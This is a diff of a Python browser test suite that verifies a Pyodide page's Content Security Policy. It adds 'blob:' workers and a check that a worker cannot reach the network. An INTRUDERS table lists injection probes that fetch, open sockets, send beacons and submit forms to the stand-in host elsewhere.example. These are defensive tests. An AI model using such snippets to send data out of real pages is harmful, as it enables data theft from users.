@@ -67,7 +67,7 @@ def test_the_policy_allows_what_the_page_is_made_of_and_nothing_else() -> None:
     assert page.directives() == {
         "default-src": ["'none'"],
         "script-src": ["'self'", *scripts, "'unsafe-eval'"],
-        "worker-src": ["'self'"],
+        "worker-src": ["'self'", "blob:"],
         "connect-src": ["'self'"],
         "style-src": styles,
         "font-src": ["'self'"],
@@ -86,15 +86,20 @@ def test_no_page_is_without_a_policy_and_none_lets_anything_from_elsewhere_in() 
         assert directives["base-uri"] == directives["form-action"] == ["'none'"], path
         assert page.handlers == [], path
         for kind, sources in directives.items():
-            allowed = {"'none'", "'self'", "'unsafe-eval'"} if path.name == "index.html" else {"'none'", "'self'"}
+            allowed = {"'none'", "'self'"}
+            if path.name == "index.html":
+                allowed |= {"'unsafe-eval'"} if kind == "script-src" else {"blob:"} if kind == "worker-src" else set()
             assert all(source in allowed or source.startswith("'sha256-") for source in sources), (path, kind)
         for kind, text in page.inline:
             assert digest(text) in directives[f"{kind}-src"], f"{path} has a {kind} that its policy does not let run"
 
 
 def test_the_page_takes_no_package_from_anywhere() -> None:
+    data = re.search(r'id="boot-data">(.*?)</script>', (DIST / "index.html").read_text("utf-8"))
+    assert data is not None
     (lock,) = DIST.glob("pyodide-*/pyodide-lock.json")
-    assert json.loads(lock.read_text("utf-8"))["packages"] == {}
+    assert json.loads(data[1])["lock"] == json.loads(lock.read_text("utf-8"))
+    assert json.loads(data[1])["lock"]["packages"] == {}
 
 
 @pytest.mark.parametrize("instead", ["", "'wasm-unsafe-eval'"])
@@ -120,7 +125,7 @@ INTRUDERS = {
     "a request": "fetch('https://elsewhere.example/').catch(() => 0)",
     "a socket": "try { new WebSocket('wss://elsewhere.example/') } catch {}",
     "a beacon": "navigator.sendBeacon('https://elsewhere.example/', 'x')",
-    "a worker of text": "try { new Worker(URL.createObjectURL(new Blob(['0']))) } catch {}",
+    "a worker of an address": "try { new Worker('data:text/javascript,0') } catch {}",
     "a form": "Object.assign(put('form'), { action: 'https://elsewhere.example/' }).submit()",
     "another base": "put('base').href = 'https://elsewhere.example/'",
 }
@@ -141,6 +146,21 @@ def test_what_might_get_into_the_page_could_neither_run_nor_reach_the_network(pa
         assert page.evaluate("window.ran") is None, what
     assert page.url == site_url
     assert arrived == []
+
+
+def test_a_worker_of_text_is_held_to_the_policy_of_the_page(page: Page, watch: Any, site_url: str) -> None:
+    """Only the page's own scripts make one, as PyScript does; it reaches no further than they do."""
+    watch.expect("Content Security Policy")
+    page.goto(site_url)
+    refused = page.evaluate(
+        """() => new Promise((done) => {
+          const text = `addEventListener("securitypolicyviolation", (event) => postMessage(event.violatedDirective));
+            fetch("https://elsewhere.example/").then(() => postMessage("arrived"), () => 0);`;
+          const worker = new Worker(URL.createObjectURL(new Blob([text])));
+          worker.onmessage = ({ data }) => done(data);
+        })"""
+    )
+    assert refused == "connect-src"
 
 
 def kept(name: str) -> str:
